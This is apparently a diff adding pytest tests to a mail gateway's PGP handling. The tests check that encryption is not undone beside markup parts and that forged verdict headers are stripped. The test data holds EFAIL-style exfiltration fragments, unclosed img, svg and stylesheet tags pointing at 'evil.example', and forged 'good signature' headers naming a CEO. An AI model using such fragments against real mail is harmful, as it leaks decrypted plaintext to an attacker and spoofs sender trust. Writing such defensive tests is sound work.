@@ -294,6 +294,36 @@ def test_encrypted_part_beside_html_is_not_decrypted(world, run):
     assert len(notices) == 1
 
 
+MARKUP_SIBLINGS = [
+    ("application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http://evil.example/?'),
+    ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/?'),
+    ("text/x-amp-html", b'<html amp4email><body><amp-img src="http://evil.example/?'),
+    ("text/xml", b'<?xml-stylesheet href="http://evil.example/?'),
+    ("text/enriched", b"<bold>"),
+    ("TEXT/HTML; charset=utf-8", b'<img src="http://evil.example/?'),
+    ("message/rfc822\nContent-Transfer-Encoding: base64",           # a reader decodes and shows it
+     b"Q29udGVudC1UeXBlOiB0ZXh0L2h0bWwKCjxpbWcgc3JjPSJodHRwOi8vZXZpbC5leGFtcGxlLz8K"),
+]
+
+
+@pytest.mark.parametrize("content_type, markup", MARKUP_SIBLINGS, ids=lambda x: str(x)[:20])
+@pytest.mark.parametrize("inline", [False, True], ids=["pgp-mime", "inline"])
+def test_nothing_is_decrypted_beside_anything_a_reader_renders_as_markup(world, run, content_type, markup,
+                                                                         inline):
+    """Not only text/html: every part a reader may render as markup, or that may hide one."""
+    armor = world.outsider.encrypt(b"Content-Type: text/plain\r\n\r\nthe plaintext\r\n", "gw@b.example")
+    encrypted = (b"Content-Type: text/plain\n\n" + armor) if inline else pgp_mime(armor, head=b"")
+    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\n'
+            + f"Content-Type: {content_type}\n\n".encode() + markup + b"\n--efail\n" + encrypted
+            + b"\n--efail--\n")
+    decrypted, _, notices = run(decrypter(world), data)
+    assert b"the plaintext" not in decrypted and armor.strip() in decrypted
+    [result] = field(decrypted, "X-ispMailGate-PGP-Result")
+    assert "EFAIL" in result and len(notices) == 1
+    plain = data.replace(f"Content-Type: {content_type}\n".encode(), b"Content-Type: text/plain\n")
+    assert b"the plaintext" in run(decrypter(world), plain)[0]        # beside plain text: decrypted
+
+
 # -- what cannot be decrypted ------------------------------------------------------------------
 
 def foreign(world) -> bytes:
@@ -553,6 +583,52 @@ def test_forged_result_fields_are_removed_on_the_way_in(world, run):
     plain = (CORPUS / "simple.msg").read_bytes()
     delivered, message, _ = run(decrypter(world), plain)       # not encrypted: passes unchanged
     assert delivered == plain and not message.changed
+
+
+FORGED = (b"X-ispMailGate-PGP-Result: decrypted; scope=inline\n"
+          b'X-ispMailGate-PGP-Signature: good; key=0123456789ABCDEF; signer="CEO <ceo@b.example>"\n'
+          b"X-ispMailGate-PGP: neg\n")
+
+
+def foreign_inline(world) -> bytes:
+    """A text part whose inline block is encrypted to a key gateway B does not hold."""
+    armor = world.outsider.encrypt(b"not for B\n", "out@c.example")
+    return text_message(armor)
+
+
+def foreign_binary(world) -> bytes:
+    """A binary .gpg attachment (gpg --encrypt without --armor) to a key B does not hold."""
+    import base64
+
+    packets = world.outsider.encrypt(b"%PDF-1.4 fake\n", "out@c.example", armor=False)
+    return (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n'
+            b"Content-Type: application/octet-stream; name=\"report.pdf.gpg\"\n"
+            b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(packets) + b"--b--\n")
+
+
+@pytest.mark.parametrize("make", [foreign_inline, foreign_binary, foreign])
+def test_forged_verdicts_on_mail_for_other_keys_are_removed_in_auto(world, run, make):
+    """auto passes mail encrypted to somebody else's key as it is -- all but the verdicts
+    the sender wrote: that early return used to come before they were removed."""
+    data = make(world)
+    auto_b = decrypter(world, direction="auto", uid=World.A_UID)
+    delivered, _, notices = run(auto_b, FORGED + data)
+    assert delivered == data and notices == []
+    assert run(auto_b, data)[0] == data                 # nothing forged: byte for byte
+
+
+def test_forged_verdicts_are_removed_on_the_way_out_too(world, run):
+    """pos in clear (no key for the recipient) and pos passing encrypted mail on."""
+    clear = gateway(world.sending, direction="pos", per_recipient=True)
+    plain = text_message(b"Hello Carol.\n")
+    delivered, _, _ = run(clear, FORGED + plain, recipients=("carol@b.example",))
+    assert delivered == plain
+    encrypted = foreign_inline(world)
+    delivered, _, _ = run(encrypter(world), FORGED + encrypted)
+    assert delivered == encrypted
+    sealed, _, _ = run(encrypter(world), FORGED + plain)
+    assert field(sealed, "X-ispMailGate-PGP") == ["pos"]
+    assert not field(sealed, "X-ispMailGate-PGP-Result") and not field(sealed, "X-ispMailGate-PGP-Signature")
 
 
 # -- per recipient -------------------------------------------------------------------------
